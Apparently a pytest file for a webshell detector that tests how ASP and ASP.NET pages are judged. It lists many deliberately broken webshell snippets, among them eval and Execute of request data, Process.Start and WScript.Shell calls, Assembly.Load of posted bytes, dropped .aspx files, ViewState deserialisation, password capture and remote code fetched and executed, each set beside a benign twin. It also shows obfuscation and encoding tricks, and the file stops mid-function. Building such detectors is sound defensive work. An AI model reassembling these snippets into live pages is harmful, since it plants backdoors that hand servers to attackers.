"""Pages that hand a server to their visitor, and pages that look alike and do not.

Every page here is synthetic and inert by two independent defects, which `_broken` and `HANDLER`
add: it names what is nowhere defined, and it ends inside of brackets that are never closed. Words
of power are put together when a test runs; `¦` marks where they were cut.
"""

from __future__ import annotations

import base64
import codecs
import random

import pytest
from hypothesis import given
from hypothesis import strategies as st

from alpheus.detect.webshell import script_encoder
from alpheus.detect.webshell.judge import (
    PageJudge,
    code_of,
    content_reasons,
    judged,
    score_of,
    structure_of,
)
from alpheus.detect.webshell.model import Judgement, PageJudgement, Reason
from alpheus.detect.webshell.page import Language
from alpheus.detect.webshell.pst import unpermuted

CSHARP, VB, JSCRIPT, VBSCRIPT = Language.CSHARP, Language.VB, Language.JSCRIPT, Language.VBSCRIPT
STANDS_OUT = {Judgement.MALICIOUS, Judgement.SUSPICIOUS}
_HEADS = {CSHARP: "C#", VB: "VB", JSCRIPT: "JScript"}
_RUNAT = "run" + "at"
_EVERY = bytes(range(256))


def _made(text: str) -> str:
    return text.replace("¦", "")


def _broken(code: str, language: Language) -> str:
    """Code that neither compiles nor runs: see above."""
    end = "" if language.basic else ";"
    return f"Nowhere.Missing(1){end}\n{_made(code)}\nNowhere.Missing(( "


def _page(code: str, language: Language = CSHARP) -> str:
    head = "" if language is VBSCRIPT else f'<%@ Page Language="{_HEADS[language]}" %>\n'
    return f"{head}<%\n{_broken(code, language)}\n%>"


def _judge(page: str | bytes, name: str = "a.aspx") -> PageJudgement:
    content = page.encode() if isinstance(page, str) else page
    return PageJudge().judge(content, f"wwwroot/{name}", "0" * 64)


def _of_code(code: str, language: Language) -> PageJudgement:
    return _judge(_page(code, language), "a.asp" if language is VBSCRIPT else "a.aspx")


_LOAD = "Assem¦bly.Lo¦ad"
_METHOD = (
    "typeof(Assem¦bly).GetMet¦hod({}).Inv¦oke(null, new object[] {{ Request.BinaryRead(9) }});"
)
_OPEN = 'Set s = Server.Create¦Object("{}")\n'

TABLE: dict[str, tuple[str, Language, str, str]] = {
    # evaluate
    "eval-unsafe": (
        "evaluate",
        JSCRIPT,
        'ev¦al(Request.Item["a"], "un" + "sa" + "fe");',
        'Response.Write(Request.Item["a"], "un" + "sa" + "fe");',
    ),
    "eval-variable": (
        "evaluate",
        JSCRIPT,
        'var a = Request["a"], b = a; ev¦al(b);',
        'var a = Request["a"], b = a; evoke(b);',
    ),
    "eval-function": (
        "evaluate",
        JSCRIPT,
        'function f(x) { return ev¦al(x); } f(Request["a"]);',
        'function f(x) { return escape(x); } f(Request["a"]);',
    ),
    "new-function": (
        "evaluate",
        JSCRIPT,
        'var f = new Func¦tion(Request["a"]);',
        'var f = new Fraction(Request["a"]);',
    ),
    "execute": ("evaluate", VBSCRIPT, 'Exe¦cute Request("a")', 'c.Exe¦cute "select 1"'),
    "execute-global": (
        "evaluate",
        VBSCRIPT,
        'Exe¦cuteGlobal(Request.Form("a"))',
        'ExecutedGlobally(Request.Form("a"))',
    ),
    "execute-spelt": ("evaluate", VBSCRIPT, 'ExEcU¦tE(rEqUeSt("a"))', 'ExCuSe(rEqUeSt("a"))'),
    "vbs-eval": ("evaluate", VBSCRIPT, 'x = ev¦al(Request("a"))', 'x = ev¦al("1 + 1")'),
    "inner-text": (
        "evaluate",
        VBSCRIPT,
        'Exe¦cute "Exe¦cute(Req" & "uest(""a""))"',
        'Exe¦cute "y = Left(z, 1)"',
    ),
    "script-control": (
        "evaluate",
        VBSCRIPT,
        _OPEN.format("MSScriptCon¦trol.ScriptCon¦trol") + 's.AddC¦ode Request("a")',
        _OPEN.format("Scripting.Dictionary") + 's.Add Request("a"), 1',
    ),
    "style-sheet": (
        "evaluate",
        CSHARP,
        'new XslCompiledTransform().Load(Request["a"], XsltSet¦tings.TrustedXslt, null);',
        'new XslCompiledTransform().Load("a.xslt", XsltSettings.Default, null);',
    ),
    # run
    "start": ("run", CSHARP, 'Pro¦cess.St¦art(Request["a"]);', 'Progress.Start(Request["a"]);'),
    "start-info": (
        "run",
        CSHARP,
        ('var i = new Pro¦cessStartInfo { FileName = "x", Arguments = Request["a"] };'),
        'var i = new ParcelInfo { Arguments = Request["a"] };',
    ),
    "start-info-with": (
        "run",
        VB,
        'Dim i As New Pro¦cessStartInfo With {.Arguments = Request("a")}',
        'Dim i As New ParcelInfo With {.Arguments = Request("a")}',
    ),
    "start-info-set": (
        "run",
        CSHARP,
        'Pro¦cess p = new Pro¦cess(); p.StartInfo.FileName = Request["a"];',
        'Parcel p = new Parcel(); p.Info.FileName = "x";',
    ),
    "typed-page-name": (
        "drop",
        CSHARP,
        'string p = "C:/inetpub/x.as¦px"; File.WriteAllT¦ext(p, Request["b"]);',
        'string p = "C:/inetpub/x.txt"; File.WriteAllT¦ext(p, Request["b"]);',
    ),
    "typed-names": (
        "run",
        CSHARP,
        (
            'string name = "System.Diagnostics.Pro¦cess, System"; Type t = Type.GetType(name);'
            ' string m = "St¦art"; t.GetMethod(m).Invoke(null, new object[] { Request["a"] });'
        ),
        (
            'string name = "Shop.Parcel, Shop"; Type t = Type.GetType(name);'
            ' string m = "Post"; t.GetMethod(m).Invoke(null, new object[] { "a" });'
        ),
    ),
    "generic": (
        "run",
        CSHARP,
        'var p = Activator.CreateInstance<Pro¦cess>(); p.StartInfo.FileName = Request["a"];',
        'var p = Activator.CreateInstance<Parcel>(); p.Info.FileName = Request["a"];',
    ),
    "scheduled": (
        "run",
        VBSCRIPT,
        _OPEN.format("Schedule.Serv¦ice")
        + 's.GetFolder("a").RegisterTa¦sk "x", Request("a"), 6, "b", Null, 5',
        _OPEN.format("Shop.Service") + 's.GetFolder("a").Register "x", Request("a")',
    ),
    "hidden-name": ("evaluate", VBSCRIPT, '[execute] = 1 : execu¦te [request]("a")', "[end] = 1"),
    "loaded-document": (
        "evaluate",
        VBSCRIPT,
        _OPEN.format("MSXML2.DOMDocum¦ent") + "s.load Request : execu¦te s.documentElement.text",
        _OPEN.format("MSXML2.DOMDocument") + "s.load Request : x = s.documentElement.text",
    ),
    "listed-eval": (
        "evaluate",
        JSCRIPT,
        '[ev¦al][0](Request["a"], "unsafe");',
        '[parse][0](Request["a"], "unsafe");',
    ),
    "constructor": (
        "evaluate",
        JSCRIPT,
        '[]["const¦ructor"]["const¦ructor"](String(Request["a"]))();',
        '[]["concat"]["concat"](String(Request["a"]));',
    ),
    "method-group": (
        "run",
        CSHARP,
        'Func<string, Pro¦cess> f = Pro¦cess.St¦art; f(Request["a"]);',
        'Func<string, Parcel> f = Parcel.Post; f(Request["a"]);',
    ),
    "method-handed-on": (
        "run",
        CSHARP,
        'new[] { Request["a"] }.Select(Pro¦cess.St¦art).ToList();',
        'new[] { Request["a"] }.Select(Parcel.Post).ToList();',
    ),
    "standard-input": (
        "run",
        CSHARP,
        'Pro¦cess p = new Pro¦cess(); p.StandardIn¦put.WriteLine(Request["a"]);',
        'Parcel p = f(); p.Label.WriteLine(Request["a"]);',
    ),
    "shell-object": (
        "run",
        VBSCRIPT,
        _OPEN.format("WScr¦ipt.Sh¦ell") + 's.Exec(Request("a"))',
        _OPEN.format("Scripting.Dictionary") + 's.Item(Request("a"))',
    ),
    "shell-alias": (
        "run",
        VBSCRIPT,
        (
            'n = "WScr¦" & "ipt.Sh¦" & "ell"\nSet s = Create¦Object(n)\n'
            'Set t = s\nt.Run Request("a"), 0'
        ),
        (
            'n = "Scripting." & "Dictionary"\n'
            'Set s = Create¦Object(n)\nSet t = s\nt.Add Request("a"), 0'
        ),
    ),
    "shell-class-id": (
        "run",
        VBSCRIPT,
        _OPEN.format("new:{72C24DD5-D70A-438B-8A42-¦98424B88AFB8}") + 's.Exec(Request("a"))',
        _OPEN.format("new:{EE09B103-97E0-11CF-978F-00A02463E06F}") + 's.Add Request("a"), 1',
    ),
    "shell-jscript": (
        "run",
        JSCRIPT,
        'var s = new Active¦XObject("WScr¦ipt.Sh¦ell"); s.Exec(Request["a"]);',
        'var s = new Active¦XObject("Scripting.Dictionary"); s.Add(Request["a"], 1);',
    ),
    "vb-shell": ("run", VB, 'She¦ll(Request("a"), 0)', 'Shelf(Request("a"), 0)'),
    # compile
    "compile": (
        "compile",
        CSHARP,
        'new CSharpCodeProvider().CompileAssem¦blyFromSource(p, Request["a"]);',
        'new CSharpWriter().WriteLineOfSource(p, Request["a"]);',
    ),
    # load
    "load": (
        "load",
        CSHARP,
        f"{_LOAD}(Request.BinaryRead(9));",
        "Image.Load(Request.BinaryRead(9));",
    ),
    "load-base64": (
        "load",
        CSHARP,
        f'{_LOAD}(Convert.FromBase64String(Request["a"]));',
        f'{_LOAD}("System.Web");',
    ),
    "load-decrypted": (
        "load",
        CSHARP,
        (
            "byte[] d = new RijndaelMan¦aged().CreateDecryp¦tor(k, k)"
            ".TransformFinalBl¦ock(Request.BinaryRead(9), 0, 9);\n"
            f'{_LOAD}(d).CreateInst¦ance("A").Equals(this);'
        ),
        'Page p = f(); d.Equals(this); Response.Write(Request["a"]);',
    ),
    "load-constant": (
        "load",
        CSHARP,
        f'{_LOAD}(Convert.FromBase64String("TV¦qQAAMA"));',
        'Image.Load(Convert.FromBase64String("iVBORw0KGgo="));',
    ),
    "load-reflected": (
        "load",
        CSHARP,
        _METHOD.format('"Lo" + "ad"'),
        'typeof(Parcel).GetMethod("Lo" + "ad");',
    ),
    "load-characters": (
        "load",
        CSHARP,
        _METHOD.format("new string(new char[] { 'L', 'o', 'a', (char)100 })"),
        "var s = new string(new char[] { 'L', 'o', 'a', (char)100 });",
    ),
    "load-bytes": (
        "load",
        CSHARP,
        _METHOD.format("Encoding.UTF8.GetString(new byte[] { 76, 111, 97, 100 })"),
        "var s = Encoding.UTF8.GetString(new byte[] { 76, 111, 97, 100 });",
    ),
    "load-replaced": (
        "load",
        CSHARP,
        _METHOD.format('"L*o-ad".Replace("*", "").Replace("-", "")'),
        'var s = "L*o-ad".Replace("*", "").Replace("-", "");',
    ),
    "load-reversed": (
        "load",
        VB,
        (
            'GetType(Assem¦bly).GetMet¦hod(StrReverse("daoL")).Inv¦oke(Nothing, '
            "New Object() {Request.BinaryRead(9)})"
        ),
        's = StrReverse("daoL")',
    ),
    "load-escaped": (
        "load",
        CSHARP,
        r"\u0041ssem¦bly.Lo\u0061d(Request.BinaryRead(9));",
        r"\u0041sset.Lo\u0061d(Request.BinaryRead(9));",
    ),
    "load-verbatim": (
        "load",
        CSHARP,
        "@Assem¦bly.@Lo¦ad(@Request.@BinaryRead(9));",
        "@Asset.@Load(@Request.@BinaryRead(9));",
    ),
    "load-comments": (
        "load",
        CSHARP,
        'Assem¦bly/*.x(*/./**/Lo¦ad(/*"*/Request // )\n.BinaryRead(9));',
        'Asset/*.x(*/./**/Load(/*"*/Request // )\n.BinaryRead(9));',
    ),
    # files
    "write": (
        "plant",
        CSHARP,
        'File.WriteAllT¦ext(Request["a"], Request["b"]);',
        'File.WriteAllT¦ext(Server.MapPath("~/App_Data/log.txt"), Request["b"]);',
    ),
    "drop": (
        "drop",
        CSHARP,
        'File.WriteAllT¦ext(Server.MapPath("x.as¦px"), Request["b"]);',
        'File.WriteAllT¦ext(Server.MapPath("x.txt"), Request["b"]);',
    ),
    "fetched-page": (
        "drop",
        VBSCRIPT,
        'Set h = Server.CreateObject("Microsoft.XMLHT¦TP") : h.Open "GET", "http://x.example/a", 0'
        " : h.Send\n" + _OPEN.format("ADODB.Str¦eam") + "s.Open : s.Write h.responseBody"
        ' : s.SaveToFi¦le Server.MapPath("x.as¦p"), 2',
        'Set h = Server.CreateObject("Microsoft.XMLHTTP") : h.Open "GET", "http://x.example/a", 0'
        " : h.Send\n" + _OPEN.format("ADODB.Stream") + "s.Open : s.Write h.responseBody"
        ' : s.SaveToFile Server.MapPath("x.xml"), 2',
    ),
    "processed-form": (
        "run",
        VBSCRIPT,
        _OPEN.format("MSWC.To¦ols") + 's.ProcessFo¦rm Request("a"), Request("b")',
        _OPEN.format("MSWC.Counters") + 's.Increment Request("a")',
    ),
    "browser-classic": (
        "manager",
        VBSCRIPT,
        _OPEN.format("Scripting.FileSys¦temObject")
        + 'For Each f In s.GetFold¦er(Request("a")).Files : Response.Write f.Name : Next : '
        + 'Response.Write s.OpenText¦File(Request("b"), 1).ReadAll',
        _OPEN.format("Scripting.FileSystemObject")
        + 'For Each f In s.GetFolder(Server.MapPath("docs")).Files : Response.Write f.Name : Next',
    ),
    "drop-classic": (
        "drop",
        VBSCRIPT,
        _OPEN.format("Scripting.FileSys¦temObject")
        + 's.CreateText¦File(Server.MapPath("x.as¦p")).Write Request("b")',
        _OPEN.format("Scripting.FileSystemObject")
        + 's.OpenTextFile(Server.MapPath("x.txt")).ReadLine',
    ),
    "manager": (
        "manager",
        CSHARP,
        (
            'string d = Request["d"]; Direct¦ory.GetFiles(d); File.Del¦ete(d);\n'
            'Response.WriteFile(d); File.Copy(Request["a"], d);'
        ),
        'string d = Server.MapPath("~/pictures"); Directory.GetFiles(d);',
    ),
    # database
    "console": (
        "console",
        CSHARP,
        (
            'var c = new SqlConn¦ection(Request["c"]);\n'
            'new SqlComm¦and(Request["q"], c).ExecuteReader();'
        ),
        (
            'var c = new SqlConnection("server=.");\nvar q = new SqlCommand("select @a", c);\n'
            'q.Parameters.AddWithValue("@a", Request["q"]);'
        ),
    ),
    # the rest
    "socket": (
        "connect",
        CSHARP,
        'var t = new TcpCl¦ient(Request["h"], 99);',
        'var t = new Client(Request["h"], 99);',
    ),
    "socket-plain": (
        "connect",
        CSHARP,
        "var t = new Soc¦ket(a, b, c);",
        "var t = new Pocket(a, b, c);",
    ),
    "registry": (
        "registry",
        CSHARP,
        'Regis¦try.LocalMachine.OpenSub¦Key(Request["k"]);',
        'ConfigurationManager.AppSettings.Get(Request["k"]);',
    ),
    "deserialise": (
        "deserialise",
        CSHARP,
        'new LosForm¦atter().Deseri¦alize(Request["__VIEW" + "STATE"]);',
        'new JavaScriptSerializer().Deserialize(Request["__VIEW" + "STATE"]);',
    ),
    "deserialise-state": (
        "deserialise",
        CSHARP,
        'new ObjectStateForm¦atter().Deseri¦alize(Request.Form["a"]);',
        "new XmlSerializer(t).Deserialize(Request.InputStream);",
    ),
    "secrets": (
        "secrets",
        CSHARP,
        "MachineKey¦Section s = f(); Response.Write(s.Validation¦Key);",
        "PagesSection s = f(); Response.Write(s.Theme);",
    ),
    "steal": (
        "steal",
        CSHARP,
        'File.AppendAllT¦ext("c:\\\\x\\\\y.txt", Request["pass" + "word"]);',
        'Membership.ValidateUser(Request["user"], Request["pass" + "word"]);',
    ),
    "fetched": (
        "evaluate",
        VBSCRIPT,
        _OPEN.format("MSXML2.XML¦HTTP") + "Exe¦cute s.responseText",
        _OPEN.format("MSXML2.XMLHTTP") + "Response.Write s.responseText",
    ),
    "powershell": (
        "run",
        CSHARP,
        'Power¦Shell.Create().AddScr¦ipt(Request["a"]).Invoke();',
        'PowerPoint.Create().AddSlide(Request["a"]).Save();',
    ),
    "saved": (
        "write",
        CSHARP,
        'Request.Files[0].Save¦As(Request["a"]);',
        'Request.Files[0].SaveAs(Server.MapPath("~/App_Data/") + Guid.NewGuid() + ".dat");',
    ),
    "script-evaluated": (
        "evaluate",
        CSHARP,
        'CSharpScr¦ipt.Evaluate¦Async(Request["a"]);',
        'CSharpWriter.WriteAsync(Request["a"]);',
    ),
    "script-engine": (
        "evaluate",
        CSHARP,
        'Microsoft.JScript.Eval.JScriptEval¦uate(Request["a"], e);',
        'Shop.Jobs.Eval.JobEvaluate(Request["a"], e);',
    ),
    "basic-file": (
        "plant",
        VB,
        'My.Computer.FileSys¦tem.WriteAllT¦ext(Request("p"), Request("c"), False)',
        'My.Computer.FileSystem.WriteAllText(Server.MapPath("a.txt"), Request("c"), False)',
    ),
    "basic-download": (
        "plant",
        VB,
        'My.Computer.Netw¦ork.DownloadF¦ile(Request("u"), Request("p"))',
        'My.Computer.Network.DownloadFile("http://x.example/a", Server.MapPath("a.txt"))',
    ),
    "basic-channel": (
        "plant",
        VB,
        'FileOp¦en(1, Request("p"), OpenMode.Output) : Print(1, Request("c"))',
        'FileOpen(1, Server.MapPath("a.txt"), OpenMode.Output) : Print(1, Request("c"))',
    ),
    "basic-channel-drop": (
        "drop",
        VB,
        'FileOp¦en(1, Server.MapPath("a.as¦px"), OpenMode.Output) : Print(1, Request("c"))',
        'FileOpen(1, Server.MapPath("a.aspx"), OpenMode.Input) : Print(1, Request("c"))',
    ),
    "recordset-saved": (
        "drop",
        VBSCRIPT,
        _OPEN.format("ADODB.Rec¦ordset")
        + 's("a") = Request("c") : s.Sa¦ve Server.MapPath("a.as¦p")',
        _OPEN.format("ADODB.Recordset") + 's("a") = Request("c") : s.Save Server.MapPath("a.xml")',
    ),
    "document-saved": (
        "plant",
        VBSCRIPT,
        _OPEN.format("MSXML2.DOMDoc¦ument.3.0") + 's.loadXML Request("c") : s.sa¦ve Request("p")',
        _OPEN.format("MSXML2.DOMDocument.3.0")
        + 's.loadXML Request("c") : s.save Server.MapPath("a.xml")',
    ),
    "document-saved-net": (
        "drop",
        CSHARP,
        'XDocument.Parse(Request["c"]).Sa¦ve(Server.MapPath("a.as¦px"));',
        'XDocument.Parse(Request["c"]).Save(Server.MapPath("web.config"));',
    ),
    "sheet-sent": (
        "evaluate",
        VBSCRIPT,
        _OPEN.format("MSXML2.DOMDocument") + 's.loadXML Request("x") : a = d.transformNo¦de(s)',
        _OPEN.format("MSXML2.DOMDocument")
        + 's.load Server.MapPath("a.xsl") : a = d.transformNode(s)',
    ),
    "assembly-run": (
        "load",
        CSHARP,
        'AppDomain.CreateDom¦ain("a").ExecuteAssem¦bly(Request["p"]);',
        'AppDomain.CreateDomain("a").SetData("p", Request["p"]);',
    ),
    "assembly-sent": (
        "load",
        CSHARP,
        (
            "string p = Path.GetTempFileName(); Request.Files[0].SaveAs(p);"
            " var a = Assem¦bly.LoadFr¦om(p);"
        ),
        (
            "string p = Path.GetTempFileName(); Request.Files[0].SaveAs(p);"
            ' var a = Assembly.LoadFrom(Server.MapPath("bin/a.dll"));'
        ),
    ),
    "pages-in-memory": (
        "load",
        CSHARP,
        'HostingEnvironment.RegisterVirtualPath¦Provider(new Nowhere(Request["c"]));',
        'HostingEnvironment.RegisterObject(new Nowhere(Request["c"]));',
    ),
    "settings-sent": (
        "drop",
        CSHARP,
        'File.WriteAllT¦ext(Server.MapPath("up/web.con¦fig"), Request["c"]);',
        (
            'var p = Server.MapPath("web.config"); var s = File.ReadAllText(p);'
            ' File.WriteAllText(p, s.Replace("@server", Request["c"]));'
        ),
    ),
    "delegate": (
        "reflect",
        CSHARP,
        'var d = Delegate.CreateDele¦gate(typeof(F), typeof(Pro¦cess), "St¦art");',
        'var d = Delegate.CreateDelegate(typeof(F), typeof(Parcel), "Start");',
    ),
    "mapped-eval": (
        "evaluate",
        JSCRIPT,
        'var a = new Array(Request.Item["a"]); a.map(ev¦al);',
        'var a = new Array(Request.Item["a"]); a.map(escape);',
    ),
    "default-function": (
        "evaluate",
        VBSCRIPT,
        (
            "Class A : Public Default Function B(c) : Exe¦cute c : End Function : End Class\n"
            'Set x = New A\ny = x(Request("a"))'
        ),
        (
            "Class A : Public Default Function B(c) : B = Left(c, 1) : End Function : End Class\n"
            'Set x = New A\ny = x(Request("a"))'
        ),
    ),
    "property-let": (
        "evaluate",
        VBSCRIPT,
        (
            "Class A : Public Property Let B(c) : Exe¦cute c : End Property : End Class\n"
            'Set x = New A\nx.B = Request("a")'
        ),
        (
            "Class A : Public Property Let B(c) : d = Left(c, 1) : End Property : End Class\n"
            'Set x = New A\nx.B = Request("a")'
        ),
    ),
    "class-variable": (
        "evaluate",
        VBSCRIPT,
        (
            "Class A\nPrivate m\nPublic Sub B(c)\nm = c\nEnd Sub\nPublic Sub D\nExe¦cute m\n"
            'End Sub\nEnd Class\nSet x = New A\nx.B Request("a")\nx.D'
        ),
        (
            "Class A\nPublic Sub B(c)\nm = c\nEnd Sub\nPublic Sub D\nExecute m\n"
            'End Sub\nEnd Class\nSet x = New A\nx.B Request("a")\nx.D'
        ),
    ),
    "property-set": (
        "run",
        CSHARP,
        'string C { set { Pro¦cess.St¦art(value); } } void F() { C = Request["a"]; }',
        'string C { set { Parcel.Start(value); } } void F() { C = Request["a"]; }',
    ),
    "page-engine": (
        "run",
        CSHARP,
        'Page.ParseCon¦trol(Request["a"]);',
        'Page.LoadControl("a.ascx");',
    ),
}
"""The kind of the reason; the language; a page that gives it, and its benign twin."""

MILDER: dict[str, tuple[str, Language, str, str]] = {
    "component": (
        "component",
        VBSCRIPT,
        'Set s = Server.Create¦Object(Request("a"))',
        'Set s = Server.CreateObject("Scripting.Dictionary")',
    ),
    "directory": (
        "directory",
        CSHARP,
        'new DirectorySear¦cher(Request["q"]).FindAll();',
        'new List(Request["q"]).FindAll();',
    ),
    "unpacked": (
        "unpack",
        CSHARP,
        (
            'var p = Server.MapPath("a.zip"); Request.Files[0].SaveAs(p);'
            ' ZipFile.ExtractToDirect¦ory(p, Server.MapPath("a"));'
        ),
        (
            'var p = Server.MapPath("a.zip"); Request.Files[0].SaveAs(p);'
            ' ZipFile.ExtractToDirectory(Server.MapPath("b.zip"), Server.MapPath("a"));'
        ),
    ),
    "moved": (
        "change",
        CSHARP,
        'new FileIn¦fo(Request["a"]).MoveTo(Request["b"]);',
        'new FileInfo(Server.MapPath("a.tmp")).MoveTo(Server.MapPath("a.txt"));',
    ),
    "pages-in-memory": (
        "load",
        CSHARP,
        "HostingEnvironment.RegisterVirtualPath¦Provider(new Nowhere());",
        (
            "void Application_Start() {"
            " HostingEnvironment.RegisterVirtualPathProvider(new Nowhere()); }"
        ),
    ),
    "files": (
        "manager",
        CSHARP,
        'File.Del¦ete(Request["a"]); Direct¦ory.GetFiles(Request["a"]);',
        'File.Delete(Server.MapPath("a.tmp")); Directory.GetFiles(Server.MapPath("a"));',
    ),
}
"""What is seldom meant well, and may be."""

HARMLESS = {
    "upload": (
        CSHARP,
        (
            'var f = Request.Files[0]; if (f.FileName.EndsWith(".png")) '
            'f.SaveAs(Server.MapPath("~/pictures/" + Path.GetFileName(f.FileName)));'
        ),
    ),
    "version": (CSHARP, "Response.Write(Assembly.GetExecutingAssembly().GetName().Version);"),
    "memory": (CSHARP, "Response.Write(Process.GetCurrentProcess().WorkingSet64);"),
    "made": (CSHARP, "var a = Activator.CreateInstance(typeof(Parcel)); a.Send();"),
    "picture": (CSHARP, 'Response.BinaryWrite(Convert.FromBase64String("iVBORw0KGgo="));'),
    "hash": (CSHARP, "var h = SHA256.Create().ComputeHash(Request.InputStream);"),
    "database": (
        VBSCRIPT,
        (
            'Set c = Server.CreateObject("ADODB.Connection")\nc.Open Application("d")\n'
            'Set r = c.Execute("select a from b where c = " & CInt(Request("c")))'
        ),
    ),
    "counter": (
        VBSCRIPT,
        (
            'Set s = Server.CreateObject("Scripting.FileSystemObject")\n'
            'Set t = s.OpenTextFile(Server.MapPath("count.txt"), 1)\nResponse.Write t.ReadLine'
        ),
    ),
    "mail": (
        VBSCRIPT,
        'Set m = Server.CreateObject("CDO.Message")\nm.TextBody = Request("a")\nm.Send',
    ),
    "json": (
        JSCRIPT,
        (
            'function p(t) { if (/^[\\],:{}\\s]*$/.test(t.replace(/a/g, "@").replace(/b/g, "]")))'
            ' { return eval("(" + t + ")"); } } p(String(Request.Form("a")));'
        ),
    ),
    "dispatch": (
        VBSCRIPT,
        (
            'Select Case Request("a")\nCase "b", "c"\n'
            'Execute "call do_" & Request("a") & "()"\nEnd Select'
        ),
    ),
    "upload-class": (
        VBSCRIPT,
        (
            "Class Upload\nPublic Sub SaveAs(name, size)\n"
            'Set d = CreateObject("ADODB.Stream")\nd.Write Request.BinaryRead(size)\n'
            'd.SaveToFile Server.MapPath("pictures/" & name), 2\nEnd Sub\nEnd Class\n'
            'Set u = New Upload\nu.SaveAs Request("name"), 9'
        ),
    ),
    "upload-library": (
        VBSCRIPT,
        (
            "Public Sub Save(folder)\nData = Request.BinaryRead(9)\n"
            'Set d = CreateObject("ADODB.Stream")\nd.Write Data\n'
            'd.SaveToFile folder & "\\" & Mid(Data, 1, 9), 2\nEnd Sub'
        ),
    ),
    "upload-root": (
        CSHARP,
        (
            "var f = Request.Files[0]; var p = Path.Combine(env.WebRootPath, f.FileName);"
            " using (var s = File.Create(p)) { f.InputStream.CopyTo(s); }"
        ),
    ),
    "script": (JSCRIPT, 'Response.Write("<script>ev" + "al(x)</" + "script>");'),
}
"""What pages do every day with the same classes."""


@pytest.mark.parametrize("name", list(TABLE))
def test_what_hands_over_the_server_is_malicious(name: str) -> None:
    """For a reason of its kind, with the line where it stands."""
    kind, language, bad, _ = TABLE[name]
    found = _of_code(bad, language)
    assert found.judgement is Judgement.MALICIOUS
    assert found.score >= 70
    reasons = {reason.kind: reason for reason in found.reasons}
    assert kind in reasons
    first = 3 if language is VBSCRIPT else 4
    last = first + _made(bad).count("\n")
    assert reasons[kind].line is None or first <= (reasons[kind].line or 0) <= last


@pytest.mark.parametrize("name", MILDER)
def test_what_may_be_meant_well_is_told(name: str) -> None:
    """It is no proof by itself, and adds to what else there is."""
    kind, language, bad, _ = MILDER[name]
    found = _of_code(bad, language)
    assert found.score >= 30
    assert kind in {reason.kind for reason in found.reasons}


_WORDS = '"process.start eval( assembly.load"'
_NAMED = {
    language: f"Nowhere.Tell {_WORDS}" if language.basic else f"Nowhere.Tell({_WORDS});"
    for language in Language
}
"""Words that keep a page from being passed by before it is read."""


@pytest.mark.parametrize("name", [*TABLE, *MILDER])
def test_a_benign_twin_does_not_stand_out(name: str) -> None:
    """The same page without the one thing that matters."""
    _, language, _, good = (TABLE | MILDER)[name]
    for code in (good, f"{_NAMED[language]}\n{good}"):
        found = _of_code(code, language)
        assert found.judgement not in STANDS_OUT, found.reasons


@pytest.mark.parametrize("name", HARMLESS)
def test_everyday_pages_do_not_stand_out(name: str) -> None:
    """Classes are no offence; what a visitor can do with them is."""
    language, code = HARMLESS[name]
    found = _of_code(code, language)
    assert found.judgement not in STANDS_OUT, found.reasons


def test_a_style_sheet_inside_of_a_text_is_looked_into() -> None:
    """A page may carry another one, or a sheet with script."""
    sheet = (
        "<ms¦xsl:script language='JScript' implements-prefix='u'>function f() {"
        "ev¦al(Request.Item['a']); Nowhere.Missing(( </msx¦sl:script>"
    )
    found = _of_code(f'var s = "{sheet}"; Load(s);', CSHARP)
    assert found.judgement is Judgement.MALICIOUS
    assert "carried" in {reason.kind for reason in found.reasons}
    assert _of_code("var s = \"<xsl:template match='a' />\"; Load(s);", CSHARP).score == 0


# --- native functions ---


_NATIVE = '[DllIm¦port("{}")] static extern int {}(int a);'


def test_functions_of_windows_that_a_page_has_no_use_for_stand_out() -> None:
    """Whatever it does with them; drawing is another matter."""
    assert _of_code(_NATIVE.format("kernel32", "Virtual¦Alloc"), CSHARP).judgement in STANDS_OUT
    assert _of_code(_NATIVE.format("gdi32", "DeleteObject"), CSHARP).judgement not in STANDS_OUT


def test_data_binding_is_no_evaluation() -> None:
    """`Eval` binds data in C# and Visual Basic, whatever stands around it."""
    for language in ("C#", "VB"):
        page = f'<%@ Page Language="{language}" %><%# Eval("Name") %><% = Eval("Name") %>'
        assert _judge(page).judgement not in STANDS_OUT


def test_a_binding_that_does_more_than_to_take_a_field_is_code() -> None:
    """It runs when the page binds its data, in markup or in an attribute."""
    head = '<%@ Page Language="C#" %>'
    for place in ("<p>{}</p>", f"<asp:Label Text='{{}}' {_RUNAT}='server' />"):
        bad = _made('<%# Nowhere.Missing(1) + Pro¦cess.St¦art(Request["a"]) + Nowhere.Missing(( %>')
        good = '<%# Nowhere.Missing(1) + Parcel.Start(Request["a"]) + Eval("Name") %>'
        assert _judge(head + place.format(bad)).judgement is Judgement.MALICIOUS
        assert _judge(head + place.format(good)).judgement not in STANDS_OUT


HANDLERS = {
    "parameter": "public void OnGet(string c) { %s(c); }",
    "named": "public Task OnPostRunAsync(string c) { %s(c); }",
    "bound": "[BindProperty(SupportsGet = true)] public string C { get; set; } void F() { %s(C); }",
    "query": "[FromQuery]\npublic string? C { get; set; }\nvoid F() { %s(C); }",
}


@pytest.mark.parametrize("name", HANDLERS)
def test_what_a_razor_page_binds_is_a_visitors_data(name: str) -> None:
    """Parameters of its handlers, properties that say so; in a view of something else neither."""
    bad = HANDLERS[name] % _made("Pro¦cess.St¦art")
    page = "{}\n@functions {{\n{} Nowhere.Missing((\n}}"
    found = _judge(page.format("@page", bad), "a.cshtml")
    assert found.judgement is Judgement.MALICIOUS
    assert "with data of the visitor" in found.reasons[0].text
    other = _judge(page.format("@model A", bad), "a.cshtml")
    assert "with data of the visitor" not in other.reasons[0].text
    good = HANDLERS[name] % "Parcel.Start"
    assert _judge(page.format("@page", good), "a.cshtml").judgement not in STANDS_OUT


# --- how a page may be wrapped ---


_BAD = 'ev¦al(Request.Item["a"], "unsafe");'
_GOOD = 'Response.Write(Server.HtmlEncode(Request.Item["a"]));'
_BLOCK = '<script language="JScript" {}>function Page_Load() {{\n{}\n</script>'


def _block(code: str, attributes: str = f'{_RUNAT}="server"') -> str:
    return _BLOCK.format(attributes, _broken(code, JSCRIPT))


def _permuted(page: str) -> bytes:
    return page.encode().translate(bytes(unpermuted(_EVERY).index(byte) for byte in _EVERY))


def _in_utf_7(page: str) -> bytes:
    """Every sign that matters as UTF-7."""
    signs = {
        sign: f"+{base64.b64encode(sign.encode('utf-16-be')).decode().rstrip('=')}-"
        for sign in "<>%(\"'"
    }
    body = "".join(signs.get(char, char) for char in page.replace("+", "+-"))
    return b"<%@ Page CodePage=65000 %>" + body.encode()


def _encoded_script(plain: str) -> str:
    """What the Script Encoder makes of it, from the decoder's own tables."""
    inverse = [{plain: char for char, plain in table.items()} for table in script_encoder._TABLES]
